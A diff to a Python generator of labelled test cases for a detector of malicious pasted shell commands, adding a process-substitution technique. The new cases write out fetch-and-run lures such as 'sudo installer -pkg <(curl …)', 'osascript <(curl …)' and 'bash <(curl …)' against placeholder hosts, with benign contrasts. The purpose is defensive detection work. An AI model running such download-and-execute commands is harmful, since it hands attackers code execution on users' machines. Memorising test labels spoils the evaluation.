@@ -17,6 +17,9 @@ Each line is {id, text, expect, technique, platform, source, target}. Techniques
   flagged by it;
 - `verify-comment`: a download-and-run labelled as an identity / account / security check:
   `malicious`; ordinary comments after a vendor's installer on its own page: `info`;
+- `process-substitution`: a download handed to a program as a file (`installer -pkg <(curl …)`,
+  `osascript <(curl …)`, `bash <(curl …)`): `flagged` (from a raw IP `malicious`); a vendor's
+  script that way from its own page: `info`; comparing or completing with `<(…)`: not flagged;
 - `rc-persist`: a download, or a command that downloads, appended to a shell start-up file:
   `flagged`; an installer followed by adding its folder to PATH or its completion to the same
   file, from its own page: `info`;
@@ -247,9 +250,42 @@ def rc_file_cases() -> list[dict[str, str]]:
     return out
 
 
+def process_substitution_cases() -> list[dict[str, str]]:
+    out = []
+    for n, host in enumerate(LURE_HOSTS, start=1):
+        page = STRANGER_PAGES[(n + 1) % len(STRANGER_PAGES)]
+        lures = [
+            (f"sudo installer -pkg <(curl -s https://{host}/p.pkg) -target /", "flagged"),
+            (f"osascript <(curl -fsSL https://{host}/a.scpt)", "malicious"),
+            (f"bash <(curl -sL https://{host}/m.sh)", "flagged"),
+            (f"python3 <(curl -fsSL https://{host}/i.py)", "flagged"),
+        ]
+        for k, (text, expect) in enumerate(lures, start=1):
+            out.append(case(f"t-procsub-{n}-{k}", text, expect, "T1059.004", "macos", page,
+                            "terminal"))  # fmt: skip
+        out.append(case(f"t-procsub-ip-{n}",
+                        f"sudo installer -pkg <(curl -s https://198.51.100.{60 + n}/p.pkg) -target /",
+                        "malicious", "T1059.004", "macos", page, "terminal"))  # fmt: skip
+    for n, (page, script) in enumerate(VENDORS, start=1):
+        out.append(case(f"t-procsub-own-{n}", f"bash <(curl -fsSL {script})", "info", BENIGN,
+                        "linux", page, "terminal"))  # fmt: skip
+    for n, text in enumerate(
+        [
+            "diff <(curl -s https://api.example-a.com/v1/config) <(curl -s https://api.example-b.com/v1/config)",
+            "source <(kubectl completion bash)",
+            "comm -13 <(sort old.txt) <(sort new.txt)",
+        ],
+        start=1,
+    ):
+        out.append(case(f"t-procsub-ok-{n}", text, "not_flagged", BENIGN, "linux",
+                        "https://wiki.example-team.org/shell-tips", "terminal"))  # fmt: skip
+    return out
+
+
 def build() -> list[dict[str, str]]:
     cases = (
-        rc_file_cases()
+        process_substitution_cases()
+        + rc_file_cases()
         + launchagent_cases()
         + transform_cases()
         + sudo_password_cases()
